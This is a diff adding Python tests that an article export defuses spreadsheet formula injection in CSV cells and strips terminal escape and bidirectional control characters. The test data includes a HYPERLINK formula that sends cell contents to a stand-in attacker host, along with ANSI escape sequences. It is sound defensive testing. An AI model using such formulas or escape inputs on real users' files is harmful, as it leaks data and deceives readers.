@@ -10,6 +10,7 @@ import random
 import sys
 import tracemalloc
 from collections.abc import Iterator
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from typing import Any
@@ -447,3 +448,49 @@ def test_an_export_of_any_size_takes_the_same_memory(
         tracemalloc.stop()
         assert done.rows == count
         assert peak < count * size / 3
+
+
+# What a spreadsheet would run, what it would not, and what only looks alike.
+CELLS = {
+    '=HYPERLINK("https://evil.example/?"&A1,"Ferry")': "'=",
+    "+49 30 1234": "'+",
+    "-2+3": "'-",
+    "@SUM(A1)": "'@",
+    "\tferry": "'\t",
+    "＝1+1": "'＝",
+    "'=1+1": "''=",
+    "'Tis the season": "'Tis",
+    "Ferry = late": "Ferry",
+}
+
+
+def test_a_spreadsheet_runs_no_cell(engine: Engine, folder: Path) -> None:
+    named = {title: f"https://a.example/{n}" for n, title in enumerate(CELLS)}
+    store(engine, [replace(article(url, story(n)), title=t) for n, (t, url) in enumerate(named.items())])
+    plain, raw = folder / "plain.csv", folder / "raw.csv"
+    export(engine, plain)
+    export(engine, raw, raw=True)
+
+    shown = {row["url"]: row["title"] for row in read(plain)}
+    for title, start in CELLS.items():
+        assert shown[named[title]].startswith(start)
+        is_defused = start[0] == "'" and start != "'Tis"
+        assert shown[named[title]][is_defused:] == title
+    assert {row["title"] for row in read(raw)} == set(CELLS)
+    assert all(row["id"].isdecimal() for row in read(plain)), "numbers are as they are"
+
+
+def test_a_terminal_obeys_nothing_of_a_stream(engine: Engine) -> None:
+    title = "Ferry\x1b[31m\x9b\u202e\u2028\x7f runs"
+    store(engine, [replace(article("https://a.example/1", story(1)), title=title)])
+    for format in ("jsonl", "csv"):
+        stream, raw = io.BytesIO(), io.BytesIO()
+        export(engine, stream, format=format, for_terminal=True)
+        export(engine, raw, format=format)
+        said = stream.getvalue().decode()
+        assert not any(c in said for c in "\x1b\x9b\u202e\u2028\x7f")
+        assert "\u202e" in raw.getvalue().decode()
+        if format == "jsonl":
+            assert json.loads(said) == json.loads(raw.getvalue())
+        else:
+            assert "Ferry\ufffd[31m" in said
